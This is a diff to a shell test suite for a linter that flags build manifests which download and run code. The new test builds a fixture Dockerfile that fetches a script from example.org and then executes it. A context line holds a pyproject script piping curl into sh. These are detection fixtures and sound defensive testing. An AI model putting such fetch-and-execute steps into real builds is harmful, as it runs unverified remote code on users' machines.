@@ -156,6 +156,9 @@ judges_project() {
     expect '[.files[] | .path as $p | .findings[] | "\($p):\(.line):\(.column) \(.rule)"] == ["project/Dockerfile:5:7 sh.command", "project/package.json:2:46 sh.command", "project/package.json:3:19 pkg.look-alike"]' report.json
 }
 ok 'scripts of package.json and commands of a Dockerfile are denied for what they download and run, not for the programs of a build' judges_project
+printf 'FROM a\nADD https://example.org/i.sh /opt/\nWORKDIR /app\nRUN curl -o t http://example.org/t\nRUN sh /opt/i.sh\nENTRYPOINT ["/app/t"]\nRUN sha256sum -c /sums\nCMD ./t\n' >project/Dockerfile
+follows_image() { json project/Dockerfile; expect '[.files[0].findings[] | "\(.line):\(.column) \(.symbol)"] == ["5:5 downloaded file", "6:13 downloaded file"]' report.json; }
+ok 'a file that one instruction of a Dockerfile downloads is found where another one runs it, until a check' follows_image
 printf 'FROM a\nSHELL ["powershell"]\n' >project/Dockerfile
 ok 'a manifest that is not understood cannot be checked, and the error has its place' gives 2 'project/Dockerfile: line 2, column 1: SHELL is none' "$lint" project
 printf '[project]\ndependencies = ["fabric"]\n[tool.pdm.scripts]\nx = {shell = "curl http://x/y | sh"}\n' >project/pyproject.toml
